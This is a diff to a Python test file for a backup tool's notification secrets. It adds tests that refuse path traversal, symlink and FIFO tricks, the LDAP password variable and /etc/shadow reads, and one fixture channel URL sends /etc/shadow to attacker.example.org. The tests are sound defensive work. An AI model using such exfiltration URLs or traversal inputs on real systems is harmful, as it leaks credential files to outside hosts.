@@ -3,6 +3,8 @@ and what the file's validation refuses (as FILE:LINE:COL)."""
 
 from __future__ import annotations
 
+import os
+import re
 import textwrap
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -13,7 +15,7 @@ from conftest import hive, write_config
 import schemas
 from notifications import alerts, render
 from notifications.alerts import Delivery, Sent
-from notifications.secrets import SecretError, redact, resolve
+from notifications.secrets import SecretError, SecretPolicy, redact, resolve
 from watcher.events import BORG1, RepoState
 from watcher.status import Disk, Recorded, evaluate
 
@@ -159,7 +161,7 @@ def test_title_reads_on_a_lock_screen() -> None:
 def test_secrets_resolve_quoted_and_redact(tmp_path: Path) -> None:
     (tmp_path / "user").write_text("u s/er\n")
     got = resolve("pover://{file:" + str(tmp_path / "user") + "}@{env:TOKEN}",
-                  {"TOKEN": "t@ken"})
+                  {"TOKEN": "t@ken"}, SecretPolicy(str(tmp_path)))
     assert got.url == "pover://u%20s%2Fer@t%40ken"
     assert got.redact(f"failed {got.url} t@ken") == "failed pover://***@*** ***"
     with pytest.raises(SecretError, match=r"environment variable NOPE .* is not set"):
@@ -254,3 +256,49 @@ def test_a_long_message_names_everyone_but_details_the_first_fifty() -> None:
     assert message.body.count("last backup:") == render.BODY_ITEMS
     assert "... and 70 more: r050 (stale), r051 (stale)" in message.body
     assert "r119 (stale)" in message.body
+
+
+def test_secrets_come_only_from_the_secrets_folder(tmp_path: Path) -> None:
+    """hive notify runs as root: a channel must not read (and send) any file it names."""
+    secrets = tmp_path / "secrets"
+    secrets.mkdir()
+    (tmp_path / "shadow").write_text("root:$6$hash\n")
+    (secrets / "ok").write_text("token\n")
+    (secrets / "escape").symlink_to(tmp_path / "shadow")
+    os.mkfifo(secrets / "fifo")
+    policy = SecretPolicy(str(secrets), frozenset({"LDAP_PW"}))
+    assert resolve("json://{file:" + str(secrets / "ok") + "}@h", {}, policy).url \
+        == "json://token@h"
+    for url, why in [
+        ("json://{file:" + str(tmp_path / "shadow") + "}@h", "outside server.secrets_dir"),
+        ("json://{file:" + str(secrets) + "/../shadow}@h", "outside server.secrets_dir"),
+        ("json://{file:" + str(secrets / "escape") + "}@h", "through a symlink"),
+        ("json://{file:" + str(secrets / "fifo") + "}@h", "not a regular file"),
+        ("json://{env:LDAP_PW}@h", "LDAP bind password"),
+    ]:
+        with pytest.raises(SecretError, match=re.escape(why)):
+            resolve(url, {"LDAP_PW": "secret"}, policy)
+    with pytest.raises(SecretError, match=r"outside server\.secrets_dir"):
+        resolve("json://{file:/etc/shadow}@h", {})  # no policy given: the default folder
+
+
+def test_validation_refuses_secrets_from_elsewhere(tmp_path: Path) -> None:
+    pw = tmp_path / "pw"
+    pw.write_text("x\n")
+    path = write_config(tmp_path, """\
+        notifications:
+          channels:
+            leak: {url: "json://{file:/etc/shadow}@attacker.example.org/x"}
+            fine: {url: "json://{file:/etc/hive/secrets/hook}@hooks.example.org/x"}
+        """, identity="{backend: ldap, ldap: {url: 'ldap://127.0.0.1:1/', "
+                      "base_dn: 'dc=x', bind_dn: 'cn=h,dc=x', bind_password_env: LDAP_PW}}")
+    env = '    env: {url: "json://{env:LDAP_PW}@a.example.org/x"}\n'
+    path.write_text(path.read_text().replace("    fine:", env + "    fine:"))
+    with pytest.raises(schemas.ConfigError) as caught:
+        schemas.load(path)
+    problems = [str(p) for p in caught.value.problems]
+    assert any("notifications.channels.leak.url" in p and "outside server.secrets_dir" in p
+               for p in problems), problems
+    assert any("notifications.channels.env.url" in p and "LDAP bind password" in p
+               for p in problems), problems
+    assert not any("channels.fine" in p for p in problems), problems
